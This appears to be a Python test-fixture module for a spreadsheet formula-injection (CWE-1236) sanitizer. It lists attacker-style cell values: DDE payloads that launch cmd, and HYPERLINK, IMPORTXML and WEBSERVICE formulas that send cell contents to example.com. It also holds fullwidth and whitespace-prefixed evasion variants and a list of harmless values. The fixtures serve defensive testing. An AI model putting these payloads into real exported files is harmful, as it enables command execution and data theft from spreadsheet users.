"""Texts that a spreadsheet could take for formulas, as attackers write them (CWE-1236)."""

from __future__ import annotations

from itertools import product
from typing import Final

PAYLOADS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    '=WEBSERVICE("http://example.com")',
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@A1",
    "=A1",
    "-A1",
    "+A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe621",
)
BEFORE: Final = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\t",
    "\r",
    "\n",
    "\0",
    " \t ",
)
CONTROLS: Final = tuple(
    f"{control}{text}"
    for control, text in product(("\t", "\r", "\n", "\0", " \t", "\u00a0\n"), ("x", "1", "Ann", ""))
)
LIVE: Final = tuple(f"{start}{text}" for start, text in product(BEFORE, PAYLOADS)) + CONTROLS
"""More than 200; each must be made harmless."""

HARMLESS: Final = (
    "", "Ann", "Søren Åkjær", "12", "-12", "+12", "-1,5", "+1.5", "a=b", "1-2", "O'Brien", "x@y.dk",
    "'", "''", "'Ann", "Łukasz", "王伟", "  ", "00007", "C2-3", "sit-stand",
)  # fmt: skip
"""Each must stay exactly as it is."""
